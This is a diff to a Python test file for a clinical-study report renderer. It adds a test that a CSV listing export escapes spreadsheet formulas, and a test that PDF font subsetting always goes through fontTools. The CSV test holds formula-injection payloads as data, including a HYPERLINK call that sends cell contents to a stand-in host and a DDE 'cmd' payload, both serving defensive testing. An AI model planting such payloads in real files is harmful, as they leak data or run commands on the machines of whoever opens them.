@@ -28,6 +28,7 @@ from oncocsr.tlf.render import (
     LISTING_CHARS,
     column_widths,
     fixed_width,
+    listing_csv,
     page_frame,
     render_appendix,
     render_listing,
@@ -251,3 +252,72 @@ def test_fixed_width_listing_columns_fit_the_page_and_keep_words_whole():
         "        count",
         "        decreased",
     ]
+
+
+def test_the_attached_csv_neutralises_formulas_but_keeps_numbers():
+    """A listing's CSV kept =HYPERLINK(...) as it was: a spreadsheet opening the file ran it."""
+    values = {
+        '=HYPERLINK("http://x.test/?d="&A1,"click")': '\'=HYPERLINK("http://x.test/?d="&A1,"click")',
+        "+1+1": "'+1+1",
+        "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1:A9)": "'@SUM(A1:A9)",
+        "\t=1+1": "'\t=1+1",
+        "\r=1+1": "'\r=1+1",
+        "\n=1+1": "'\n=1+1",
+        # A line break inside a value starts no new row, whose first cell would be a formula.
+        "ok\r=1+1": "ok\r=1+1",
+        "ok\n=1+1": "ok\n=1+1",
+        "-": "'-",
+        # Data, not formulas: plain numbers, dates, durations, text with a sign inside.
+        "-12.5": "-12.5",
+        "-3": "-3",
+        "2016-10-13": "2016-10-13",
+        "P1D": "P1D",
+        "a=b": "a=b",
+        "": "",
+    }
+    listing = Listing("16.2.2", "AEs", "Safety set", ["Value"], [[value] for value in values])
+    rows = list(csv.reader(io.StringIO(listing_csv(listing).decode("utf-8"), newline="")))
+    assert rows == [["Value"], *([value] for value in values.values())]
+
+
+class SystemHbSubset:
+    """Stands for the system library libharfbuzz-subset, as WeasyPrint holds it once loaded:
+    using it fails the test."""
+
+    def __getattr__(self, name):
+        raise AssertionError(f"WeasyPrint subset a font with the system's hb-subset ({name})")
+
+
+def test_fonts_are_subset_by_fonttools_whatever_the_system_has(tmp_path, monkeypatch):
+    """WeasyPrint subsets with hb-subset when the system has libharfbuzz-subset, else with
+    fontTools: the same report gave two PDFs. Both ways now run fontTools, to the same bytes."""
+    from weasyprint.pdf import fonts
+
+    subset = fonts.Font._fonttools_subset
+    families = []
+
+    def spy(font, *args):
+        families.append(font.family)
+        return subset(font, *args)
+
+    monkeypatch.setattr(fonts.Font, "_fonttools_subset", spy)
+    frame = page_frame(study=STUDY, cut=CUT, pipeline=PIPELINE, template_dir=TEMPLATES)
+    html = render_listing(
+        adverse_event_listing(hostile_adae()), footer_text="Source: ADAE.", template_dir=TEMPLATES
+    )
+    document = render_appendix(html, tlf_id="16.2.2", frame=frame, template_dir=TEMPLATES)
+    pdfs = []
+    for system in (None, SystemHbSubset()):
+        monkeypatch.setattr(fonts, "harfbuzz_subset", system)
+        path = tmp_path / f"{len(pdfs)}.pdf"
+        write_pdf(document, path, base_dir=TEMPLATES, allowed_roots=[TEMPLATES], epoch=EPOCH)
+        pdfs.append(path.read_bytes())
+        # WeasyPrint's own view of the system is left as it was.
+        assert fonts.harfbuzz_subset is system
+    assert pdfs[0] == pdfs[1]
+    # Every embedded font (text and listing faces), each time.
+    assert (
+        len(families) % 2 == 0 and families[: len(families) // 2] == families[len(families) // 2 :]
+    )
+    assert {"CSR Sans", "CSR Mono"} <= set(families)
